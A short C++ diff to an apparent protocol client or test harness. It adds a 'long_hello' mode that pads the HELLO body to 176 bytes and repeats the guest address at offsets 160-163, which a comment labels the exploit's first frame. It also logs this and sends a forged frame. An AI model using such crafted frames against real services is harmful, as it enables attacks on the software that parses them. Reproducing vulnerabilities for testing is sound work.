@@ -129,7 +129,16 @@ std::vector<std::uint8_t> Guest::hello_body() {
     h.flags = 0x01 | (o_.attended ? 0x02 : 0x00);
     h.guest_address = embedded_;
     h.guest_name = o_.name;
-    return proto::encode_hello_body(h);
+    auto body = proto::encode_hello_body(h);
+    if (o_.long_hello) {
+        // The exploit's first frame (A11): 176 body bytes, the guest's address
+        // again at 160-163 (B3). main() keeps the name short enough to end
+        // before offset 160.
+        body.resize(kLongHelloBody, 0);
+        for (int i = 0; i < 4; ++i)
+            body[kSecondAddressOffset + i] = static_cast<std::uint8_t>(embedded_ >> (24 - 8 * i));
+    }
+    return body;
 }
 
 std::vector<std::uint8_t> Guest::hello_frame_bytes() {
@@ -198,8 +207,11 @@ int Guest::run() {
             return finish();
         }
     }
-    log_.event("hello", fmt::format("guest: sent HELLO service {} embedded-guest-address {}",
-                                    proto::service_name(o_.service), v4text(embedded_)));
+    log_.event("hello", fmt::format("guest: sent HELLO service {} embedded-guest-address {}{}",
+                                    proto::service_name(o_.service), v4text(embedded_),
+                                    o_.long_hello ? fmt::format(" second-guest-address {} ({}-byte body)",
+                                                                v4text(embedded_), kLongHelloBody)
+                                                  : std::string()));
     if (!forged.empty()) {
         bool sent = o_.legacy_udp ? ::send(fd_.get(), forged.data(), forged.size(), 0) >= 0
                                   : write_all(fd_.get(), forged, overall_).status == IoStatus::ok;
